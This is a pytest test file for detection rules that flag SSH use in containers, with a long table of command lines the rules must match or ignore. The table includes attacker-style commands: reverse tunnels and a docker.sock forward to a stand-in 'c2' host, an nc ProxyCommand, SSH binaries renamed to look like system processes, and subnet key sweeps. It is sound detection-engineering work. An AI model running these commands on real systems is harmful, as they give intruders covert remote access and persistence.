"""The bundled rules: their files, and a table of command lines with the rules that match them.

The file is long because of the table.
"""

import itertools
import re
import shlex
import uuid
from typing import Any

import pytest

from app.detection.detector import Detector
from app.detection.rule import BUNDLED_RULES_DIR, Rule, load_rules
from app.detection.rule_tests import run_tests
from app.domain.alert import severity_for_priority
from app.domain.exclusion import LABEL_PREFIX, find_field
from app.domain.ssh import ForwardKind, parse_ssh

PACK = load_rules([BUNDLED_RULES_DIR])
RULES = {rule.slug: rule for rule in PACK.rules}
ALL_RULES_DETECTOR = Detector(PACK.rules)
FOR_EACH_RULE = pytest.mark.parametrize("rule", PACK.rules, ids=list(RULES))

# Short names for the slugs of the rules, for use in the table of command lines.
SSH, TUNNEL, HOST = "ssh_in_container", "ssh_forward_in_container", "ssh_to_container_host"
RENAMED, DROPBEAR = "renamed_ssh_in_container", "dropbear_in_container"
PASS, COPY = "sshpass_in_container", "ssh_copy_in_container"
SESSION = "sshd_session_in_container"
SWEEP, KEYS = "ssh_keyscan_in_container", "ssh_keygen_in_container"
BY_ID, FROM_LOGIN = "ssh_in_container_by_id", "ssh_from_container_login"
LOGIN_PROGRAM = "program_from_container_login"


# ---- rule files ----


def test_every_bundled_rule_loads() -> None:
    assert not PACK.problems
    assert set(RULES) == {path.stem for path in BUNDLED_RULES_DIR.glob("*.toml")}


def test_the_rules_enabled_by_default() -> None:
    assert {slug for slug, rule in RULES.items() if rule.enabled} == {
        *(SSH, BY_ID, FROM_LOGIN, SESSION, DROPBEAR, PASS, RENAMED, SWEEP)
    }


def test_rule_ids_and_names_are_unique() -> None:
    assert len({rule.id for rule in PACK.rules}) == len(RULES)
    assert len({rule.name for rule in PACK.rules}) == len(RULES)


@FOR_EACH_RULE
def test_every_rule_passes_its_own_test_events(rule: Rule) -> None:
    assert not run_tests(rule)
    assert sum(test.matches for test in rule.tests) >= 2
    assert sum(not test.matches for test in rule.tests) >= 2


@FOR_EACH_RULE
def test_every_rule_has_complete_metadata(rule: Rule) -> None:
    assert uuid.UUID(rule.id).version == 4
    assert severity_for_priority(rule.risk_score) is rule.severity
    assert rule.setup
    assert rule.false_positives
    assert rule.references
    if rule.slug != SSH:
        # The description states what the rule does not detect and whether it is enabled by default.
        description = " ".join(rule.description.split())
        assert "does not detect" in description
        state = "enabled" if rule.enabled else "disabled"
        assert f"This rule is {state} by default" in description
        assert rule.enabled or "An admin can enable the rule on the **Rules** page" in description


@FOR_EACH_RULE
def test_every_guide_has_three_sections_and_known_evidence_markers(rule: Rule) -> None:
    known = {"start-event", "recent-change", "connection", "account-and-key", "surroundings"}
    assert {step.evidence for step in rule.guide.triage.steps} == known
    assert len(rule.guide.false_positives.steps) >= 3
    assert len(rule.guide.response.steps) >= 4
    for part in rule.guide.parts:
        assert not part.text
        assert not any("<!--" in step.markdown for step in part.steps)
    offered = [s.exclusion_fields for s in rule.guide.false_positives.steps if s.exclusion_fields]
    assert len(offered) >= 3
    for names in offered:
        fields = [find_field(name.replace("*", "app")) for name in names]
        assert all(fields), names
        # Deckwatch refuses an exclusion as too broad if none of its fields has `limits_scope`.
        assert any(field.limits_scope for field in fields if field), names
        assert all(name.startswith(LABEL_PREFIX) or "*" not in name for name in names)


def test_guides_do_not_share_sentences() -> None:
    steps = [s.markdown for rule in PACK.rules for part in rule.guide.parts for s in part.steps]
    assert len(steps) == len(set(steps))


@FOR_EACH_RULE
def test_threat_ids_and_urls_follow_mitre(rule: Rule) -> None:
    assert rule.threats
    tags = {tag.removeprefix("Tactic: ") for tag in rule.tags if tag.startswith("Tactic: ")}
    assert tags == {threat.tactic.name for threat in rule.threats}
    for threat in rule.threats:
        assert threat.tactic.reference == f"https://attack.mitre.org/tactics/{threat.tactic.id}/"
        assert threat.techniques
        for one in threat.techniques:
            for named in (one, *one.subtechniques):
                place = named.id.replace(".", "/")
                assert re.fullmatch(r"T\d{4}(\.\d{3})?", named.id)
                assert named.reference == f"https://attack.mitre.org/techniques/{place}/"
            assert all(below.id.startswith(one.id + ".") for below in one.subtechniques)


# ---- command lines ----

COMMANDS: list[tuple[set[str], str]] = [
    ({SSH}, """
        ssh root@10.0.0.7
        ssh -V
        ssh -i /tmp/.k -p 2222 deploy@10.42.3.17 uptime
        ssh -N -L 5432:db:5432 bastion
        ssh -iR2D2_key web
        ssh -oRekeyLimit=1G -oRequestTTY=no -oRemoteCommand=none web
        ssh -o Tunnel=no web
        ssh web grep -R 12:30:45 /var/log
        ssh web chmod -R 755 /srv
        ssh -p 2222 web /bin/ls -R /srv
        ssh web java -Dport=8080 -jar x.jar
        ssh web ping -c1 -w5 db
        ssh web 'tar -R 8080:db:80'
        ssh root@172.17.0.5
        ssh 172.16.0.1
        ssh 172.170.0.1
        ssh web curl http://172.17.0.1/
        ssh localhost
        /usr/sbin/sshd -D -e -p 2222
        autossh -M 0 web
    """),
    ({SSH, TUNNEL}, """
        ssh -R 8080:localhost:80 c2
        ssh -R8080:localhost:80 c2
        ssh -fNR 8080:localhost:80 c2
        ssh -vNTR0.0.0.0:2222:localhost:22 c2
        ssh c2 -R 1080
        ssh -R '[::1]:8080:[fe80::1]:80' c2
        ssh -R '*:8080:db:80' c2 sleep 1d
        ssh -N -R 2375:/var/run/docker.sock c2
        ssh -R /tmp/a.sock:/run/b.sock c2
        ssh -NfD 1080 c2
        ssh -ND1080 c2
        ssh -D 127.0.0.1:1080 c2
        ssh -w 0:0 c2
        ssh -Nw any c2
        ssh -w0 c2
        ssh -o RemoteForward='8080 db:80' c2
        ssh '-oremoteforward=8080 db:80' c2
        ssh -o 'REMOTEFORWARD 8080 db:80' c2
        ssh -o '"RemoteForward" 8080 db:80' c2
        ssh -fNoDynamicForward=1080 c2
        ssh -oTunnel=yes c2
        ssh -o 'tunnel Point-to-Point' c2
        autossh -M 20000 -f -N -R 2222:localhost:22 -o StrictHostKeyChecking=no ops@203.0.113.9
    """),
    ({SSH, HOST}, """
        ssh root@172.17.0.1
        ssh ssh://root@172.31.0.1:22
        ssh -p 22 172.17.1
        ssh 2886795265
        ssh root@::ffff:172.17.0.1
        ssh -l root HOST.docker.internal.
        ssh gateway.docker.internal
        ssh host.containers.internal id
        ssh host.minikube.internal
        ssh 10.88.0.1
        ssh core@192.168.127.254
        ssh -J root@172.18.0.1:22,x db
        ssh -NJroot@172.18.0.1 db
        ssh -o HostName=172.17.0.1 web
        ssh -ohostname=192.168.65.254 web
    """),
    ({SSH, HOST, TUNNEL}, "ssh -NR 1080 root@172.17.0.1"),
    ({DROPBEAR}, """
        dropbear -F -E -p 2222
        /tmp/dbclient -y -i /tmp/.k root@10.0.0.7
        dropbearmulti ssh root@10.0.0.7
        busybox dbclient -i /root/.ssh/id_dropbear root@10.0.0.7
        toybox dropbear -p 22
    """),
    ({DROPBEAR, HOST}, "dbclient root@172.17.0.1/2222"),
    ({PASS}, """
        sshpass -p example ssh -o StrictHostKeyChecking=no root@10.0.0.7
        sshpass -f /run/secrets/p scp a root@10.0.0.7:
    """),
    ({COPY}, """
        scp -r /srv drop@203.0.113.9:/in
        scp -t /srv
        sftp -P 2022 edi@sftp.partner.example
        /usr/lib/openssh/sftp-server
        ssh-copy-id -i /tmp/k.pub root@10.0.0.7
        bash /usr/bin/ssh-copy-id root@10.0.0.7
    """),
    ({SESSION}, """
        /usr/lib/openssh/sshd-session -D -R
        sshd-auth -R
    """),
    ({RENAMED}, """
        /tmp/x -oStrictHostKeyChecking=no root@10.0.0.7
        ./x -o userknownhostsfile=/dev/null db
        /tmp/x -o 'ProxyCommand nc c2 443' db
        kworker -fNR 8080:localhost:80 c2
        /dev/shm/nginx -R8080:localhost:80 c2
        kworker -fND 1080 c2
        kworker -N -R 1080 ops@203.0.113.9
        kworker -L 8080:db:80 -p 443 c2
        crond -i /root/.ssh/id_ed25519 root@10.0.0.7
        crond -ti/tmp/.k root@10.0.0.7
        SSH -i /tmp/.k root@10.0.0.7
        ssh2 -oBatchMode=yes root@10.0.0.7
        /tmp/sudo -oBatchMode=yes root@10.0.0.7
        /lib64/ld-linux-x86-64.so.2 /usr/bin/ssh root@10.0.0.7
        /tmp/x -D -p 2222 -oPermitRootLogin=yes
        @/tmp/x ssh root@10.0.0.7
        @/dev/shm/.a ssh web
        '@/memfd:ssh (deleted)' ssh root@10.0.0.7
        '@/memfd:x (deleted)' /usr/bin/ssh root@10.0.0.7
        '@/usr/bin/ssh (deleted)' x root@10.0.0.7
        @/tmp/x sshd -D
        /tmp/x -J a@b c@d
        /tmp/x -p 2222 root@203.0.113.9
        /tmp/x -p2222 root@2001:db8::7
        /tmp/x -NTp 2222 ssh://root@203.0.113.9
        /tmp/httpd -D -p 4444 -f /tmp/c -h /tmp/k
        /dev/shm/httpd -De -p4444 -h/tmp/k
        /usr/local/bin/httpd -D -p 4444 -f /tmp/c -h /tmp/k
        /tmp/kubectl --context a@b -i /tmp/k -oBatchMode=yes
        /tmp/curl -i /tmp/.k root@10.0.0.7
        /lib/ld-musl-x86_64.so.1 /usr/bin/ssh root@10.0.0.7
        /lib64/ld-linux-x86-64.so.2 /usr/bin/ssh root@10.0.0.7 ldd
        /lib64/ld-linux-x86-64.so.2 /usr/bin/ssh -E /tmp/ldd web
        /lib64/ld-linux-x86-64.so.2 /usr/bin/ssh root@10.0.0.7 --list
        crond -i /root/.ssh/k root@fe80::1%eth0
        /home/app/curl -i /root/.ssh/k root@10.0.0.7
        /opt/find -oStrictHostKeyChecking=no web ssh
    """),
    ({SWEEP}, """
        ssh-keyscan -T 1 10.0.0.0/24
        ssh-keyscan 192.168.16/28
        ssh-keyscan -f -
        ssh-keyscan -4Hf/tmp/targets
        ssh-keyscan 10.0.0.1,10.0.0.2
    """),
    ({KEYS}, """
        ssh-keygen -A
        ssh-keygen -y -f /home/app/.ssh/id_rsa
        ssh-keygen -R 10.0.0.7
        dropbearkey -t ed25519 -f /tmp/.k
    """),
    (set(), """
        ssh-keyscan -t rsa,ecdsa,ed25519 github.com
        ssh-keyscan github.com gitlab.com
        ssh-keygen -Y verify -n git -f allowed -I ana@example.com -s sig
        ssh-agent -s
        ssh-add /root/.ssh/id_rsa
        sh -c 'ssh -oStrictHostKeyChecking=no -R 8080:db:80 root@172.17.0.1'
        bash -c 'scp -i /root/.ssh/id_rsa a root@10.0.0.7:'
        git clone ssh://git@git.example:22/infra.git
        git -c 'core.sshCommand=ssh -i /root/.ssh/id_rsa -oBatchMode=yes' fetch
        rsync -e 'ssh -oBatchMode=yes' -aR /srv backup@10.0.0.9:/srv
        timeout 9 ssh -oBatchMode=yes root@10.0.0.7
        sudo -u app ssh -i /root/.ssh/id_rsa -R 8080:db:80 root@10.0.0.7
        python3 /usr/bin/ansible --ssh-common-args -oBatchMode=yes all
        ansible-playbook --ssh-common-args '-o StrictHostKeyChecking=no' site.yml
        grep -o StrictHostKeyChecking=no /etc/ssh/ssh_config
        grep -R 8080:db:80 /etc
        docker run -p 127.0.0.1:8080:80 shop/web
        curl -fsSL http://localhost:8080/healthz
        curl -o x -u me@corp.example https://10.0.0.7:8443/
        sendmail -i -f root@node-11 ops@example.com
        mail -s report -r a@example.com b@example.com
        mysql -N -D shop -P 3306 -u app
        ldapsearch -D admin@corp.example -p 389
        gpg -R ana@example.com --passphrase-fd 0 -o x
        busybox wget http://mirror.example/dropbear
        apk add dropbear openssh sshpass
        dropbearconvert dropbear openssh key key.pem
        mosh ana@web
        x root@10.0.0.7
        sshd-session-exporter --port 9100
        ls -NR 10:20
        kubectl --context kubernetes-admin@kubernetes exec -i web -- cat /tmp/x
        kubectl --context kubernetes-admin@kubernetes exec -i web -- tar xf - -C /home/app
        kubectl exec -it web -- ssh -oBatchMode=yes root@10.0.0.7
        docker run -ti -v /tmp/x alpine@sha256:4bcff63911fcb4448bd4fdacec207030
        docker exec -i web ssh -oStrictHostKeyChecking=no root@10.0.0.7
        podman run -ti -v /home/ana/x alpine@sha256:4bcff63911fcb4448bd4fdacec207030
        trivy image -i /tmp/x alpine@sha256:4bcff63911fcb4448bd4fdacec207030
        parallel ssh -oBatchMode=yes {} uptime ::: web-1 web-2
        curl -i -u svc@corp:pw https://10.0.0.7/ -o /tmp/x
        curl -i -u svc@corp https://10.0.0.7/ -o /tmp/x
        http-client -i -u svc@corp:pw /tmp/x
        rg -i root@example.com /tmp/mail
        sudo -u svc@corp -i /home/svc/run
        @/usr/bin/bash /bin/bash /usr/bin/ldd /usr/bin/ssh
        /lib64/ld-linux-x86-64.so.2 --verify /usr/bin/ssh
        @/lib/ld-musl-x86_64.so.1 ldd /usr/bin/ssh
        httpd -D FOREGROUND -f /etc/httpd/httpd.conf
        /tmp/server -p 8080 -f /tmp/c
        sshd-session-exporter -D -f /etc/e.yml
    """),
]  # fmt: skip

COMMAND_LINES = [
    (line.strip(), slugs) for slugs, lines in COMMANDS for line in lines.strip().splitlines()
]


def exec_event(
    line: str, *, entry: str | None = "container", container: str | None = "9d2c41f07be3"
) -> dict[str, Any]:
    """Return the exec event of the command `line`. A program without a folder is in `/usr/bin`.

    If the first word is `@FILE`, the executable is FILE and the next word is argv[0].
    """
    args = shlex.split(line)
    program = args.pop(0)[1:] if args[0].startswith("@") else args[0]
    name = program.rpartition("/")[2]
    process: dict[str, Any] = {
        "name": name,
        "executable": program if "/" in program else f"/usr/bin/{name}",
        "args": args,
    }
    if entry:
        process["entry_leader"] = {"entry_meta": {"type": entry}}
    found = {
        "event": {"category": ["process"], "type": ["start"], "action": "exec"},
        "host": {"os": {"type": "linux"}},
        "process": process,
    }
    return found if container is None else found | {"container": {"id": container}}


def matched_slugs(document: dict[str, Any]) -> set[str]:
    return {rule.slug for rule in ALL_RULES_DETECTOR.match_document(document)}


def test_the_command_table_has_at_least_120_lines() -> None:
    assert len(COMMAND_LINES) >= 120
    assert {slug for _, slugs in COMMAND_LINES for slug in slugs} == set(RULES) - {
        *(BY_ID, FROM_LOGIN, LOGIN_PROGRAM)
    }


@pytest.mark.parametrize(("line", "slugs"), COMMAND_LINES, ids=[line for line, _ in COMMAND_LINES])
def test_a_command_in_a_container_matches_the_expected_rules(line: str, slugs: set[str]) -> None:
    assert matched_slugs(exec_event(line)) == slugs
    assert matched_slugs(exec_event(line, container=None)) == slugs


# Each of the following tests checks all command lines in a loop, because one test per line would be slow.


def test_the_entry_leader_decides_which_rule_matches_the_three_names() -> None:
    for line, slugs in COMMAND_LINES:
        for entry, instead in ((None, BY_ID), ("init", BY_ID), ("sshd", FROM_LOGIN)):
            expected = slugs - {SSH} | {instead} if SSH in slugs else slugs
            assert matched_slugs(exec_event(line, entry=entry)) == expected, (line, entry)


def test_no_command_matches_two_enabled_rules() -> None:
    for line, _ in COMMAND_LINES:
        for entry in ("container", "sshd", "init", None):
            told = matched_slugs(exec_event(line, entry=entry))
            assert sum(RULES[slug].enabled for slug in told) <= 1, (line, entry, told)


def test_host_processes_other_systems_forks_and_ends_do_not_match() -> None:
    fork = {"category": "process", "type": "start", "action": "fork"}
    end = {"category": "process", "type": "end", "action": "end"}
    for line, _ in COMMAND_LINES:
        inside = exec_event(line)
        assert not matched_slugs(exec_event(line, entry="sshd", container=None)), line
        assert not matched_slugs(exec_event(line, entry=None, container="")), line
        assert not matched_slugs(inside | {"host": {"os": {"type": "macos"}}}), line
        assert not matched_slugs(inside | {"event": fork}), line
        assert not matched_slugs(inside | {"event": end}), line


def test_the_tunnel_rule_agrees_with_the_ssh_parser() -> None:
    for line, slugs in COMMAND_LINES:
        if SSH in slugs:
            args = shlex.split(line)
            invocation = parse_ssh(args[0].rpartition("/")[2], args)
            assert invocation is not None
            opened = {forward.kind for forward in invocation.forwards}
            lets_in = opened - {ForwardKind.LOCAL, ForwardKind.STDIO}
            assert bool(lets_in) == (TUNNEL in slugs), line


def test_no_combination_of_name_entry_and_arguments_matches_two_enabled_rules() -> None:
    names = (
        "ssh sshd autossh sshd-session dropbear dbclient dropbearmulti sshpass scp ssh-keyscan x"
    )
    shapes = (["-f", "-"], ["dbclient", "-oBatchMode=yes"], ["-i", "/root/k", "a@b"])
    entries = ("container", "sshd", "tty", None, ["container", "sshd"])
    for name, args, entry in itertools.product([*names.split(), "busybox"], shapes, entries):
        document = exec_event(shlex.join(["/opt/" + name, *args]))
        document["process"]["entry_leader"] = {"entry_meta": {"type": entry}}
        told = matched_slugs(document)
        assert sum(RULES[slug].enabled for slug in told) <= 1, (name, args, entry, told)


@pytest.mark.parametrize(
    ("line", "parent", "told"),
    [
        ("-bash", "sshd", True),
        ("sh -c id", "sshd-session", True),
        ("-ash", "dropbear", True),
        ("git-shell -c x", "sshd", True),
        ("id", "bash", False),
        ("sshd -R", "sshd", False),
        ("sftp-server", "sshd-session", False),
    ],
)
def test_the_login_program_matches_and_its_children_do_not(
    line: str, parent: str, told: bool
) -> None:
    for entry in ("sshd", None):
        document = exec_event(line, entry=entry)
        document["process"]["parent"] = {"name": parent}
        assert (LOGIN_PROGRAM in matched_slugs(document)) is told
    outside = exec_event(line, entry="sshd", container=None)
    outside["process"]["parent"] = {"name": parent}
    assert not matched_slugs(outside)


@pytest.mark.parametrize(
    ("name", "executable", "told"),
    [
        ("slogin", "/usr/bin/ssh", True),
        ("3", "/srv/ssh", True),
        (None, "/usr/sbin/sshd", True),
        ("ssh", "/usr/bin/ssh", False),
        ("sshd-session", "/usr/lib/openssh/sshd-session", False),
        ("bash", "/usr/bin/bash", False),
        ("mongosh", "/usr/bin/mongosh", False),
    ],
)
def test_a_renamed_openssh_matches_by_executable(
    name: str | None, executable: str, told: bool
) -> None:
    document = exec_event("x db")
    document["process"] |= {"name": name, "executable": executable}
    assert (RENAMED in matched_slugs(document)) is told
